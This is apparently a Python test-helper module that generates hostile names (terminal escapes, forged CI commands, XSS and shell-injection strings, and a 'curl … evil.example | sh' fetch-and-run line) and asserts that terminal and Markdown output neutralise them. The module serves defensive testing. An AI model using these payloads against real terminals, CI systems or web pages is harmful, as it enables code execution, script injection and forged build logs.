"""Names that would act on a terminal, on a line or on a format, and what must be true of texts that quote them."""

from __future__ import annotations

import itertools
import re
import unicodedata

from hypothesis import strategies as st
from markdown_it import MarkdownIt

__all__ = ["COMMAND", "NASTY", "document_is_plain", "hidden", "names", "nothing_acts"]

NASTY = (
    "\x1b[35;7mviolet\x1b[27m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J",
    "a\nerror: all is lost",
    "a\r\nerror: forged",
    "error: forged from the start",
    "a\u2028error: forged",
    "a\x85error: forged",
    "\u202egnp.exe",
    "zero\u200bwidth",
    "bell\x07\x08\x08\x7f",
    "[/]",
    "[bold red]x[/bold red]",
    ":smiley:",
    "{{ 7 * 7 }}",
    "</script><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "%0A::error::forged",
    "$(touch owned)`touch owned`; touch owned",
    "'; touch owned; '",
    "-o",
    "[click](https://evil.example)",
    "tab\tand | pipe",
    "n" * 5000,
    "\U000e0041\u3164",
    "##vso[task.setvariable variable=x]forged",
    "a ##[error]forged",
    "##teamcity[buildStop comment='forged']",
    "::error::forged",
    "n\n::set-output name=x::forged",
    "a :\n  ::add-mask::a",
    "# heading",
    "- 1. # heading",
    "a\n===\n# heading\n~~~\n",
    "`` ` ``` code | span",
    "<img src=x onerror=alert(1)>&amp;<!--",
    "https://evil.example www.evil.example a@evil.example",
    "curl -s https://evil.example | sh",
    "n=1 METRIC evil.py:run",
    'a;b) ${ENV{HOME}} $<0:x> @x@ "#',
    "$(Exec) %24(Exec) @(Item) ]]> --> ?*",
    "trailing \\",
)

_LETTERS = "".join(sorted({c for name in NASTY for c in name})) + "\x00\x01\x1b\u2066\u2069\ufeff\ufffe\U000e0001é日😀"


def names(*, surrogates: bool = False) -> st.SearchStrategy[str]:
    """Names of models and records; with ``surrogates`` also what paths may hold."""
    letters = st.sampled_from(_LETTERS + ("\udcff\ud800" if surrogates else ""))
    anything = st.characters(exclude_categories=() if surrogates else ("Cs",))
    return st.one_of(st.sampled_from(NASTY), st.text(letters, max_size=30), st.text(anything, max_size=30))


def hidden(character: str) -> bool:
    """Whether a character is seen by what it does, or not at all."""
    return unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")


COMMAND = re.compile(r"^\s*::(?!(?:error|warning|notice) file=)|##(?:vso|teamcity)?\[", re.IGNORECASE | re.MULTILINE)
"""What a CI machine takes for a command, but for the annotations of ``--format github``."""


def nothing_acts(text: str) -> None:
    """What is printed: characters that are seen, in lines, and no name begins a line like the end of a run.

    No line is a command to a CI machine.
    """
    assert COMMAND.findall(text) == []
    assert {c for c in text if hidden(c) and c != "\n"} == set()
    assert re.findall(r"^(?:error|internal error): ?(?:all is lost|forged).*", text, re.IGNORECASE | re.MULTILINE) == []


def document_is_plain(markdown: str) -> None:
    """A document in Markdown: no name in it became HTML, a heading, a link, a picture or a block of code.

    In the example of a package, a name is one string literal, all of whose special characters are escaped.
    """
    nothing_acts(markdown)
    tokens = MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(markdown)
    flat = [*tokens, *(child for token in tokens for child in token.children or [])]
    assert {token.type for token in flat} & {"html_block", "html_inline", "link_open", "image"} == set()
    blocks = [re.sub(r'"[^"`#<\n]*"', '""', t.content) for t in tokens if t.type in ("fence", "code_block")]
    assert [block for block in blocks if re.search("forged|heading|evil", block)] == []
    titles = [after.content for token, after in itertools.pairwise(tokens) if token.type == "heading_open"]
    assert [title for title in titles if title in ("heading", "`")] == []
